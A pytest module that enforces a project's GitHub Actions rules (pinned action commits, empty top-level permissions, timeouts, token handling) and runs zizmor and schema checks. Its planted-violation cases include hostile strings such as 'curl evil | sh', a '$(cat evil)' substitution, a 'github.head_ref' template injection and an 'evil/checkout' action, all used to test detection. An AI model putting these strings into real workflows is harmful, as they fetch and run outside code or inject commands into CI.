"""The workflows as they are written: zizmor, GitHub's own schemas, and the rules of this house."""

import functools
import importlib.util
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import typer
from ruamel.yaml import YAML

from ci_tools.cli import app

ROOT = Path(__file__).parents[2]
COMMANDS = typer.main.get_command(app).commands
PINS = {
    "actions/attest-build-provenance": ("v4.1.1", "0f67c3f4856b2e3261c31976d6725780e5e4c373"),
    "actions/checkout": ("v7.0.1", "3d3c42e5aac5ba805825da76410c181273ba90b1"),
    "actions/download-artifact": ("v8.0.1", "3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c"),
    "actions/setup-python": ("v7.0.0", "5fda3b95a4ea91299a34e894583c3862153e4b97"),
    "actions/upload-artifact": ("v7.0.1", "043fb46d1a93c77aae656e7c1c64a875d1fc6a0a"),
    "github/codeql-action/upload-sarif": ("v4.37.6", "5595ccaf912efad79be6eef63a5619ff05969be3"),
    "ossf/scorecard-action": ("v2.4.3", "4eaacf0543bb3f2c246792bd56e8cdeffafb205a"),
    "zizmorcore/zizmor-action": ("v0.6.2", "3dc1ecc9bcb9e94e9b2c709687979e1298497054"),
}
"""Every action of somebody else's, and the commit that its version was when it was read."""
OWNED = (".github", "ci_tools", "tests/model", "dvc.yaml", "gates.yaml", "release.yaml", "calibration.json")
SCHEMAS = {
    "github-workflows": "workflows/*.yml",
    "github-actions": "actions/*/action.yml",
    "dependabot": "dependabot.yml",
    "github-issue-forms": "ISSUE_TEMPLATE/[!c]*.yml",
    "github-issue-config": "ISSUE_TEMPLATE/config.yml",
}
MEANT_FOR_SHELLS = re.compile(r"[;&|`\n]|\$[({]|<")
PERMISSION = re.compile(r"\s+[a-z-]+: (read|write)( # .*)?")


def zizmor():
    beside = Path(sys.executable).with_name("zizmor")
    program = str(beside) if beside.exists() else shutil.which("zizmor")
    return program or pytest.skip("zizmor is not installed: it comes with the extra `dev`")


def audited(folder):
    """Exit code and text of an offline audit; of several findings the code is that of the worst."""
    command = [zizmor(), "--offline", "--persona", "auditor", "--no-progress", "--quiet", str(folder)]
    done = subprocess.run(command, capture_output=True, text=True)
    return done.returncode, done.stdout + done.stderr


def schema_errors(name, files):
    if importlib.util.find_spec("check_jsonschema") is None:
        pytest.skip("check-jsonschema is not installed: it comes with the extra `dev`")
    command = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", f"vendor.{name}", *map(str, files)]
    done = subprocess.run(command, capture_output=True, text=True)
    return done.stdout + done.stderr if done.returncode else ""


def violations(root):
    """What breaks a rule of this house, a sentence each."""
    found = []
    for path in sorted((root / ".github").rglob("*.yml")):
        text = path.read_text()
        tree = parsed(text)
        where = path.relative_to(root / ".github")
        if path.parent.name == "workflows":
            found += [f"{where}: {said}" for said in of_workflow(path.name, tree, text)]
        if path.name == "action.yml":
            found += [f"{where}: {said}" for step in tree["runs"]["steps"] for said in of_step(step, text)]
    return found + unowned(root)


@functools.cache
def parsed(text):
    return YAML(typ="safe").load(text)


def of_workflow(name, tree, text):
    triggers = tree.get("on", tree.get(True))
    if "pull_request_target" in triggers:
        yield "pull_request_target runs a stranger's code with rights"
    if tree.get("permissions") != {}:
        yield "permissions: {} at the top is missing"
    if "concurrency" not in tree and "workflow_call" not in triggers:
        yield "concurrency is missing"
    for job, settings in tree["jobs"].items():
        yield from (f"{job}: {said}" for said in of_job(name, settings, text))
    for line in text.splitlines():
        granted = PERMISSION.fullmatch(line)
        if granted and not granted[2]:
            yield f"{line.strip()}: no comment says why"


def of_job(name, job, text):
    if "uses" not in job and "timeout-minutes" not in job:
        yield "timeout-minutes is missing"
    if "permissions" not in job:
        yield "permissions are missing"
    if not job.get("name"):
        yield "a name is missing"
    if "uses" in job:
        yield from of_action(job["uses"], text)
    for step in job.get("steps", ()):
        yield from of_step(step, text)
        uses, given = step.get("uses", ""), step.get("with", {})
        if "download-artifact" in uses and has_rights(job) and given.get("path", ".").strip("./") == "":
            yield f"{step['name']}: unpacks an artifact over the checkout of a job that has rights"
        if given.get("cache") == "true" and name != "ci.yml":
            yield f"{step['name']}: a cache outside of ci.yml"


def has_rights(job):
    """Whether somebody's code in this job could do harm outside of it."""
    return "write" in job.get("permissions", {}).values() or "secrets." in str(job)


def of_step(step, text):
    name = step.get("name")
    if not name:
        yield "a step has no name"
    if "run" in step:
        yield from (f"{name}: {said}" for said in of_command(step["run"].strip()))
    if "uses" in step:
        yield from of_action(step["uses"], text)
    if step.get("uses", "").startswith("actions/checkout@") and step["with"].get("persist-credentials") is not False:
        yield f"{name}: leaves the token in the clone"


def of_command(line):
    """One `switchback …` or `make …`; its text may go to a file, and it may take the shell's place."""
    program, *words = shlex.split(line.removeprefix("exec ").partition(" > ")[0])
    if program not in ("switchback", "make") or MEANT_FOR_SHELLS.search(line):
        yield f"`{line}` is not one command of switchback or make"
    elif program == "switchback":
        command = COMMANDS.get(words[0])
        known = (
            {option for parameter in command.params for option in [*parameter.opts, *parameter.secondary_opts]}
            if command
            else set()
        )
        yield from (f"`{line}`: no {word}" for word in words[1:] if word.startswith("-") and word not in known)
        if command is None:
            yield f"`{line}`: no such command"
    else:
        tasks = re.findall(r"^([a-z]+):", (ROOT / "Makefile").read_text(), re.MULTILINE)
        yield from (f"`{line}`: no such task" for word in words if "=" not in word and word not in tasks)


def of_action(uses, text):
    if uses.startswith("$/"):
        return
    action, _, commit = uses.partition("@")
    version, pinned = PINS.get(action, ("", ""))
    if commit != pinned or not re.search(rf"{re.escape(uses)} # {re.escape(version)}$", text, re.MULTILINE):
        yield f"{uses}: is not the commit of the table of pins, with its version"


def unowned(root):
    lines = (root / ".github/CODEOWNERS").read_text().splitlines()
    owned = {line.split()[0].strip("/") for line in lines if line.strip() and not line.startswith("#") and "@" in line}
    return [f"CODEOWNERS: nobody owns {path}" for path in OWNED if path not in owned]


@pytest.fixture
def copy(tmp_path):
    """A copy of .github in which something can be planted."""
    shutil.copytree(ROOT / ".github", tmp_path / ".github")

    def plant(file, before, after):
        path = tmp_path / ".github" / file
        text = path.read_text()
        assert before in text, "nothing to plant into"
        path.write_text(text.replace(before, after, 1))
        return tmp_path

    return plant


def test_house_rules_hold():
    assert violations(ROOT) == []


def test_zizmor_finds_nothing():
    code, text = audited(ROOT / ".github")
    assert code == 0, text


def test_every_ignored_finding_says_why():
    for path in (ROOT / ".github").rglob("*.yml"):
        for line in path.read_text().splitlines():
            if "zizmor: ignore" in line:
                assert re.search(r"zizmor: ignore\[[a-z-]+\] \w.{20,}", line), f"{path.name}: {line.strip()}"


@pytest.mark.parametrize("name", SCHEMAS)
def test_files_are_what_github_reads(name):
    files = sorted((ROOT / ".github").glob(SCHEMAS[name]))
    assert files
    assert schema_errors(name, files) == ""


def test_table_of_pins_is_not_longer_than_needed():
    text = "".join(path.read_text() for path in (ROOT / ".github").rglob("*.yml"))
    assert [action for action in PINS if f"{action}@" not in text] == []


def test_releases_wait_for_each_other_and_none_is_cancelled():
    release = YAML(typ="safe").load((ROOT / ".github/workflows/release.yml").read_text())
    assert release["concurrency"] == {"group": "release", "cancel-in-progress": False, "queue": "max"}


@pytest.mark.parametrize(("file", "name"), [("game-day.yml", "drills"), ("release.yml", "release")])
def test_what_hangs_fails_where_a_failure_is_told(file, name):
    """GitHub cancels a job that takes too long, and a job after it that waits for a failure never runs."""
    job = parsed((ROOT / ".github/workflows" / file).read_text())["jobs"][name]
    minutes = [step.get("timeout-minutes") for step in job["steps"] if "run" in step]
    assert None not in minutes
    assert sum(minutes) < job["timeout-minutes"]


def test_every_lock_file_of_npm_is_kept_up_to_date():
    updates = YAML(typ="safe").load((ROOT / ".github/dependabot.yml").read_text())["updates"]
    (npm,) = (update["directories"] for update in updates if update["package-ecosystem"] == "npm")
    found = subprocess.run(["git", "ls-files", "*package-lock.json"], cwd=ROOT, capture_output=True, text=True)
    assert sorted(npm) == sorted(f"/{Path(line).parent}" for line in found.stdout.split())


def test_dependencies_of_others_are_a_week_old():
    updates = YAML(typ="safe").load((ROOT / ".github/dependabot.yml").read_text())["updates"]
    assert all(update["cooldown"]["default-days"] >= 7 for update in updates)


PLANTED = [
    ("workflows/ci.yml", "permissions: {}", "permissions: read-all", "permissions: {} at the top"),
    ("workflows/ci.yml", "    timeout-minutes: 15\n", "", "timeout-minutes is missing"),
    ("workflows/ci.yml", "run: make lint", "run: make lint && make test", "not one command"),
    ("workflows/ci.yml", "run: make lint", "run: pip install ruff", "not one command"),
    ("workflows/ci.yml", "run: make lint", "run: make linnt", "no such task"),
    ("workflows/ci.yml", "run: make lint", 'run: make "$(cat evil)"', "not one command"),
    ("workflows/ci.yml", "  pull_request:\n", "  pull_request_target:\n", "a stranger's code with rights"),
    ("workflows/ci.yml", "concurrency:\n", "env:\n", "concurrency is missing"),
    ("workflows/ci.yml", "persist-credentials: false", "fetch-depth: 1", "leaves the token"),
    ("workflows/ci.yml", "contents: read # to check out", "contents: read", "no comment says why"),
    ("workflows/ci.yml", "contents: read # to check out", "contents: write", "no comment says why"),
    ("workflows/ci.yml", "      - name: Style and types\n        run", "      - run", "a step has no name"),
    ("workflows/_experiment.yml", "gate --base", "gate --bass", "no --bass"),
    ("workflows/_experiment.yml", "switchback report", "switchback reprot", "no such command"),
    ("workflows/_experiment.yml", "v7.0.1", "v7.0.2", "table of pins"),
    ("workflows/_experiment.yml", "3d3c42e5", "4d3c42e5", "table of pins"),
    ("workflows/_experiment.yml", "actions/checkout@3d", "evil/checkout@3d", "table of pins"),
    ("workflows/release.yml", "          path: run # never", "          # never", "unpacks an artifact over"),
    ("workflows/release.yml", "          path: told\n", "          path: ./\n", "unpacks an artifact over"),
    (
        "workflows/release.yml",
        "          wheels:",
        '          cache: "true"\n          wheels:',
        "a cache outside of ci",
    ),
    ("actions/setup/action.yml", "run: make setup", "run: curl evil | sh", "not one command"),
    ("CODEOWNERS", "/gates.yaml ", "# /gates.yaml ", "nobody owns gates.yaml"),
    ("CODEOWNERS", "/.github/          @switchback-ci/maintainers", "/.github/", "nobody owns .github"),
]


@pytest.mark.parametrize(("file", "before", "after", "said"), PLANTED)
def test_planted_violation_is_found(copy, file, before, after, said):
    assert any(said in one for one in violations(copy(file, before, after)))


@pytest.mark.parametrize(
    ("file", "before", "after", "audit"),
    [
        ("workflows/ci.yml", "run: make lint", 'run: make "${{ github.head_ref }}"', "template-injection"),
        ("workflows/report.yml", "# zizmor: ignore[dangerous-triggers]", "#", "dangerous-triggers"),
        (
            "workflows/report.yml",
            "    environment:\n      name: tracking\n      deployment: false\n",
            "",
            "secrets-out",
        ),
        (
            "workflows/rollback.yml",
            "concurrency:\n  group: rollback\n",
            "x:\n  group: rollback\n",
            "concurrency-limits",
        ),
        ("dependabot.yml", "default-days: 7", "default-days: 1", "dependabot-cooldown"),
    ],
)
def test_zizmor_is_in_force(copy, file, before, after, audit):
    code, text = audited(copy(file, before, after) / ".github")
    assert code
    assert audit in text


def test_schemas_are_in_force(copy):
    root = copy("workflows/ci.yml", "runs-on:", "runs-at:")
    assert "ci.yml" in schema_errors("github-workflows", [root / ".github/workflows/ci.yml"])
